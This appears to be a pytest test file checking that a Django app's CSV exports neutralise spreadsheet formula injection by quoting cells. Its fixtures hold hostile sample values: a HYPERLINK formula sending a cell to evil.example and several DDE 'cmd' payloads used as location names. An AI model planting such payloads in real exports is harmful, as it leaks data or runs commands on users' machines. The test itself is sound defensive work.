"""Finding 8 of issue 12: no CSV the project writes carries a formula a spreadsheet would run.

A location named ``=HYPERLINK("http://evil.example/?d="&A2,"x")`` used to come out of the insights
CSVs as it was: opened in a spreadsheet, it is a link sending the neighbouring cell away. Every text
cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return now gets a leading quote
(`cx_audit.core.csvsafe.safe_cell`, OWASP's advice); numbers — a negative change included — stay
numbers. The only CSV writer is the insights export (`cx_audit.insights.tables.csv_text`), behind
every ``/api/insights/…?format=csv``.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal, InvalidOperation

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cx_audit.core.csvsafe import FORMULA_STARTS, safe_cell
from tests.cx_audit.audit_helpers import published_framework
from tests.cx_audit.insight_helpers import NO, audit_at, days_ago

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
NAMES = {
    "f1_south": EVIL,
    "direct_north": "+1+cmd|' /C calc'!A0",
    "f2_north_east": "-2+3+cmd|' /C calc'!A0",
    "f1_tier3": "@SUM(1+1)*cmd|' /C calc'!A0",
}
CSV_ENDPOINTS = (
    "league/",
    "league/?ordering=change",
    "regressions/",
    "location-gaps/",
    "standards/",
    "standards/by-region/",
    "standards/failing-locations/?item_code=SIG-02",
    "consistency/sections/",
    "consistency/items/",
    "comparisons/?by=region",
    "comparisons/?by=franchisee",
    "comparisons/?by=outlet_type",
    "comparisons/?by=city_tier",
    "trends/?by=chain",
    "trends/?by=outlet_type",
    "trends/?by=region",
    "heatmaps/sections/",
    "heatmaps/touchpoints/",
)


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def _cells(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.fixture
def hostile(chain, role_users):
    """Brand A with every location, a region, a franchisee and a section named like a formula."""
    framework = published_framework(chain.brand)
    for attribute, name in NAMES.items():
        location = getattr(chain, attribute)
        location.name = name
        location.save(update_fields=["name"])
    chain.north.name = "=North"
    chain.north.save(update_fields=["name"])
    chain.f1.name = "-First Partner"
    chain.f1.save(update_fields=["name"])
    framework.sections.filter(code="signage").update(name="@Signage")
    admin = role_users["hq_admin"]
    audit_at(chain.direct_north, admin, days_ago(30))  # 100
    audit_at(chain.direct_north, admin, days_ago(5), **NO)  # 50: a change of -50.00, a regression
    audit_at(chain.f1_south, admin, days_ago(4), **NO)
    audit_at(chain.f2_north_east, admin, days_ago(3))
    audit_at(chain.f1_tier3, admin, days_ago(2))
    return chain


@pytest.mark.django_db
class CsvExportTests:
    def test_no_cell_of_any_export_is_a_formula(self, hostile, api, role_users):
        client = api(role_users["hq_analyst"])
        for path in CSV_ENDPOINTS:
            joiner = "&" if "?" in path else "?"
            response = client.get(f"/api/insights/{path}{joiner}format=csv")
            assert response.status_code == 200, (path, response.content[:300])
            for row in _cells(response):
                for cell in row:
                    assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (path, cell)

    def test_the_names_are_quoted_and_otherwise_unchanged(self, hostile, api, role_users):
        exported = api(role_users["hq_admin"]).get("/api/insights/league/?format=csv")
        rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
        names = {row["location_code"]: row["location_name"] for row in rows}
        for attribute, name in NAMES.items():
            assert names[getattr(hostile, attribute).code] == "'" + name
        by_franchisee = api(role_users["hq_admin"]).get("/api/insights/comparisons/?by=franchisee&format=csv")
        labels = {
            row["label"] for row in csv.DictReader(io.StringIO(by_franchisee.content.decode("utf-8-sig")))
        }
        assert "'-First Partner" in labels
        by_region = api(role_users["hq_admin"]).get("/api/insights/comparisons/?by=region&format=csv")
        labels = {row["label"] for row in csv.DictReader(io.StringIO(by_region.content.decode("utf-8-sig")))}
        assert "'=North" in labels

    def test_a_negative_number_stays_a_number(self, hostile, api, role_users):
        exported = api(role_users["hq_admin"]).get("/api/insights/regressions/?format=csv")
        rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
        assert [row["change"] for row in rows] == ["-50.00"]

    def test_json_keeps_the_names_as_they_are(self, hostile, api, role_users):
        rows = api(role_users["hq_admin"]).get("/api/insights/league/").json()["results"]
        assert EVIL in {row["location_name"] for row in rows}


class SafeCellTests:
    def test_owasp_examples(self):
        assert safe_cell(EVIL) == "'" + EVIL
        assert safe_cell("+1") == "'+1"
        assert safe_cell("-1") == "'-1"  # text that looks like a number is still text
        assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
        assert safe_cell("\tx") == "'\tx"
        assert safe_cell("\rx") == "'\rx"
        assert safe_cell("Beijing Flagship") == "Beijing Flagship"
        assert safe_cell("") == ""

    def test_numbers_and_none_are_left_alone(self):
        assert safe_cell(Decimal("-25.00")) == Decimal("-25.00")
        assert safe_cell(-3) == -3
        assert safe_cell(-0.5) == -0.5
        assert safe_cell(None) is None
        assert safe_cell(True) is True

    @given(st.text())
    def test_text_never_starts_a_formula_and_the_quote_is_all_that_changes(self, text):
        cell = safe_cell(text)
        assert not cell.startswith(FORMULA_STARTS)
        assert cell == text or (cell.startswith("'") and cell[1:] == text)

    @given(st.one_of(st.integers(), st.decimals(allow_nan=False), st.floats(allow_nan=False)))
    def test_numbers_are_never_changed(self, number):
        assert safe_cell(number) == number
